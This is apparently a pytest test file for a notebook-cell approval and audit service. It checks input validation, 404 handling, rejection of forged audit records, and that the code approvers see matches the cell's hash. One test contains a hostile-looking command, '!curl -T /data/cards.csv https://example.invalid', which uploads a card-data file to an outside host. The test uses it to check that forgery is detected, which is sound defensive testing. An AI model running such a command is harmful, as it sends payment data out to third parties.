"""Malformed input gets a 400 that names the problem: never a 500, never a stored record."""

from __future__ import annotations

import json
from typing import Any

import pytest
from service_helpers import Api, cell_request  # type: ignore[import-not-found]

VALID_HASH = "a" * 64


def bad_create_bodies(version: str) -> list[Any]:
    good = cell_request(policy_version=version)
    return [
        None,
        [],
        "text",
        {},
        {**good, "cell_hash": "not-a-hash"},
        {**good, "cell_hash": "A" * 64},
        {**good, "code": 42},
        {**good, "rules": []},
        {**good, "rules": [{"id": "x"}]},
        {**good, "rules": [{"id": "x", "action": "maybe"}]},
        {**good, "rules": "shell"},
        {**good, "unexpected": True},
        {**good, "notebook_path": ["a"]},
        {**good, "code": "x" * 200_001},
        {k: v for k, v in good.items() if k != "policy_version"},
    ]


async def test_create_rejects_malformed_bodies(api: Api, governance: Any) -> None:
    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
    for body in bad_create_bodies(governance.service.policy.version):
        status, reply = await api(kernel, "POST", "kernel/approvals", raw_body=json.dumps(body).encode())
        assert status == 400, (body if len(json.dumps(body)) < 200 else "big body", reply)
        assert reply["message"]
    assert governance.service.approvals.search() == []


@pytest.mark.parametrize(
    "raw", [b"{", b"\xff\xfe", b"[1,2", b"NaN-ish", b'{"decision": "approve", "reason": ""}']
)
async def test_decision_rejects_unparseable_or_empty(api: Api, governance: Any, raw: bytes) -> None:
    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
    _, request = await api(
        kernel, "POST", "kernel/approvals", cell_request(policy_version=governance.service.policy.version)
    )
    status, reply = await api("bob", "POST", f"approvals/{request['id']}/decision", raw_body=raw)
    assert status == 400, reply
    _, still = await api("bob", "GET", f"approvals/{request['id']}")
    assert still["status"] == "pending"


@pytest.mark.parametrize(
    "body",
    [
        {"decision": "approve"},
        {"reason": "ok"},
        {"decision": "APPROVE", "reason": "ok"},
        {"decision": "approve", "reason": "   "},
        {"decision": "approve", "reason": 5},
        {"decision": "approve", "reason": "x" * 2001},
        {"decision": "approve", "reason": "ok", "approver": "bob"},
    ],
)
async def test_decision_rejects_wrong_fields(api: Api, governance: Any, body: dict[str, Any]) -> None:
    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
    _, request = await api(
        kernel, "POST", "kernel/approvals", cell_request(policy_version=governance.service.policy.version)
    )
    status, reply = await api("bob", "POST", f"approvals/{request['id']}/decision", body)
    assert status == 400, reply


async def test_unknown_request_ids_are_404(api: Api, governance: Any) -> None:
    missing = "12345678-1234-4234-8234-123456789abc"
    assert (await api("bob", "GET", f"approvals/{missing}"))[0] == 404
    assert (await api("bob", "POST", f"approvals/{missing}/decision", {"decision": "deny", "reason": "x"}))[
        0
    ] == 404
    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
    assert (await api(kernel, "GET", f"kernel/approvals/{missing}/wait", params={"timeout": 0}))[0] == 404
    assert (await api("bob", "GET", "approvals/not-a-uuid"))[0] == 404


@pytest.mark.parametrize("params", [{"limit": "x"}, {"limit": "0"}, {"limit": "100000"}, {"status": "maybe"}])
async def test_list_rejects_bad_query_parameters(api: Api, params: dict[str, str]) -> None:
    status, reply = await api("bob", "GET", "approvals", params=params)
    assert status == 400, reply


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"records": []},
        {"records": [{}]},
        {"records": [{"event_type": "approval.decided"}]},
        {"records": [{"event_type": "audit.read"}]},
        {"records": [{"event_type": "cell.end", "outcome": "maybe"}]},
        {"records": [{"event_type": "cell.end", "cell_hash": "zz"}]},
        {"records": [{"event_type": "cell.end", "user": "bob"}]},
        {"records": [{"event_type": "cell.end", "output_size": -1}]},
        {"records": [{"event_type": "cell.end"}] * 501},
    ],
)
async def test_audit_ingest_rejects_malformed_or_forged_records(
    api: Api, governance: Any, body: dict[str, Any]
) -> None:
    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
    before = len(governance.service.audit.query(limit=1000))
    status, reply = await api(kernel, "POST", "kernel/audit", body)
    assert status == 400, reply
    assert len(governance.service.audit.query(limit=1000)) == before


@pytest.mark.parametrize("params", [{"since": "yesterday"}, {"limit": "-1"}, {"after_seq": "x"}])
async def test_audit_query_rejects_bad_filters(api: Api, params: dict[str, str]) -> None:
    assert (await api("dave", "GET", "audit", params=params))[0] == 400


async def test_the_code_shown_to_approvers_must_be_the_cell_that_will_run(api: Api, governance: Any) -> None:
    kernel = ("kernel", governance.service.credentials.mint("k1", "alice"))
    version = governance.service.policy.version
    dangerous = cell_request("!curl -T /data/cards.csv https://example.invalid", policy_version=version)
    forged = {**dangerous, "code": "print('hello')"}  # innocuous text, the dangerous cell's hash
    status, reply = await api(kernel, "POST", "kernel/approvals", forged)
    assert status == 400
    assert "SHA-256" in reply["message"]
    assert governance.service.approvals.search() == []
    # A cell whose card number the kernel masked before sending is accepted (its hash cannot match).
    original = "card = '4111111111111111'\n!echo $card"
    masked = {
        **cell_request(original, policy_version=version),
        "code": "card = '************1111'\n!echo $card",
    }
    status, reply = await api(kernel, "POST", "kernel/approvals", masked)
    assert status == 201, reply
